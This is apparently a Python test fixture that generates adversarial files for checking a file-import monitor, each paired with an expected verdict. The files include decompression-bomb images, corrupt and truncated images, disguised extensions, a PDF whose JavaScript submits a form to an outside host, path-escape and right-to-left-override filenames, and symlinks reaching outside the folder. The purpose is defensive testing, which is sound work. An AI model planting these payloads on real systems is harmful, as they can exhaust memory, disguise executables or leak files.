"""Hostile files, generated in code: what an adversary might send a monitor.

`heavy_files(folder)` writes the ones worth a process of their own (bombs, huge chunks, the big
sparse file); `batch_files(folder)` writes the rest into one folder (odd names, links, FIFOs,
truncated and corrupt images of every supported format, misleading extensions, hostile PDFs).
Each writer returns {file name: expectation}, where the expectation is "rejected", "stored"
(imported, any kind) or "stored-warned" (imported with a decoding warning).
"""

from __future__ import annotations

import io
import os
import struct
import zlib
from pathlib import Path

from PIL import Image

REJECTED, STORED, WARNED = "rejected", "stored", "stored-warned"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, colour_type: int = 6, rows: bool = True, extra: bytes = b"") -> bytes:
    """A PNG built by hand: all-zero pixels compressed row by row (never held in memory), so a
    256 MiB bitmap costs a few hundred KiB. `rows=False` writes an empty IDAT (a lying header)."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    comp = zlib.compressobj(9)
    body = bytearray()
    if rows:
        row = bytes(1 + width * channels)
        for _ in range(height):
            body += comp.compress(row)
    body += comp.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", bytes(body)) + _chunk(b"IEND", b"")


def jpeg_with_size(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) claims `width` x `height`."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def image_bytes(fmt: str) -> bytes:
    out = io.BytesIO()
    im = Image.linear_gradient("L").convert("RGB").resize((320, 240))
    im.save(out, fmt)
    return out.getvalue()


def corrupt(data: bytes) -> bytes:
    """Keep the signature, scramble the middle."""
    mid = bytearray(data)
    for i in range(len(mid) // 3, 2 * len(mid) // 3, 7):
        mid[i] ^= 0x5A
    return bytes(mid)


def hostile_pdf() -> bytes:
    """A PDF that opens a JavaScript action and whose xref table points to wrong offsets."""
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n",
        b"4 0 obj\n<< /S /JavaScript /JS (app.alert('x'); this.submitForm('http://example.invalid/');) >>\nendobj\n",
    ]
    body = b"%PDF-1.7\n" + b"".join(objects)
    xref = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % (99999 + i) for i in range(4))
    return body + xref + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n999999\n%%EOF\n"


def heavy_files(folder: Path, sparse_bytes: int) -> dict[str, str]:
    """Each of these gets a process of its own so its memory peak can be measured alone."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        # 8000 x 8000 RGBA: 64 M pixels = 256 MiB decoded, ~250 KiB on disk.
        "bomb-256MiB.png": (png(8000, 8000), WARNED),
        # Header claims 100000 x 100000 (10 G pixels, 40 GB decoded): refused before decoding.
        "bomb-header.png": (png(100_000, 100_000, rows=False), WARNED),
        "bomb-65000.jpg": (jpeg_with_size(65_000, 65_000), WARNED),
        "bomb-20000.jpg": (jpeg_with_size(20_000, 20_000), WARNED),
        # 64 MiB of text in a zTXt chunk (deflates to ~64 KiB) and a 16 MiB tEXt chunk.
        "ztxt-64MiB.png": (
            png(32, 32, extra=_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(64 << 20)))),
            STORED,
        ),
        "text-16MiB.png": (png(32, 32, extra=_chunk(b"tEXt", b"Comment\x00" + b"A" * (16 << 20))), STORED),
    }
    for name, (data, _expect) in files.items():
        (folder / name).write_bytes(data)
    with open(folder / "sparse.bin", "wb") as fh:
        fh.truncate(sparse_bytes)
    return {**{name: expect for name, (_d, expect) in files.items()}, "sparse.bin": STORED}


def batch_files(folder: Path, outside: Path) -> dict[str, str]:
    """Odd names, links, a FIFO, damaged images, lying extensions, a hostile PDF."""
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, str] = {}

    def put(name: str, data: bytes, outcome: str) -> None:
        (folder / name).write_bytes(data)
        expect[name] = outcome

    for fmt, ext in (
        ("JPEG", "jpg"),
        ("PNG", "png"),
        ("GIF", "gif"),
        ("WEBP", "webp"),
        ("TIFF", "tif"),
        ("BMP", "bmp"),
    ):
        good = image_bytes(fmt)
        put(f"truncated.{ext}", good[: max(len(good) // 2, 40)], STORED)
        put(f"corrupt.{ext}", corrupt(good), STORED)
        put(f"header-only.{ext}", good[:16], STORED)
    put("empty.jpg", b"", REJECTED)
    put("png-named.pdf", image_bytes("PNG"), STORED)
    put("pdf-named.jpg", hostile_pdf() + b"% a different copy\n", STORED)
    put("elf-named.txt", b"\x7fELF\x02\x01\x01" + bytes(200), STORED)
    put("text-named.mp4", "Показания свидетеля\n".encode() * 20, STORED)
    put("javascript-bad-xref.pdf", hostile_pdf(), STORED)
    put("not-really.pdf", b"%PDF-1.4\n" + os.urandom(3000), STORED)
    put("..\\..\\windows-escape.txt", b"backslash dots\n", STORED)
    put("...txt", b"dots only\n", STORED)
    put("line\nbreak.txt", b"newline in name\n", STORED)
    put("invoice\u202egpj.exe", b"right-to-left override\n", STORED)
    put("ctl\x01\x07\x1b[31mred.txt", b"control characters\n", STORED)
    put("tab\tand\x7fdel.txt", b"tab and DEL\n", STORED)
    (folder / os.fsdecode(b"latin1-\xe9t\xe9.txt")).write_bytes(b"not UTF-8 name\n")
    expect[os.fsdecode(b"latin1-\xe9t\xe9.txt")] = STORED
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.txt").write_bytes(b"outside the imported folder\n")
    os.symlink(outside / "secret.txt", folder / "link-outside.txt")
    expect["link-outside.txt"] = REJECTED
    os.symlink(outside, folder / "link-outside-dir")
    expect["link-outside-dir"] = REJECTED
    os.symlink("truncated.jpg", folder / "link-inside.jpg")
    expect["link-inside.jpg"] = STORED  # a link to a file inside: imported (or a duplicate of it)
    os.symlink("nowhere", folder / "link-broken")
    expect["link-broken"] = REJECTED
    os.symlink("link-loop", folder / "link-loop")
    expect["link-loop"] = REJECTED
    os.mkfifo(folder / "fifo")
    expect["fifo"] = REJECTED
    return expect
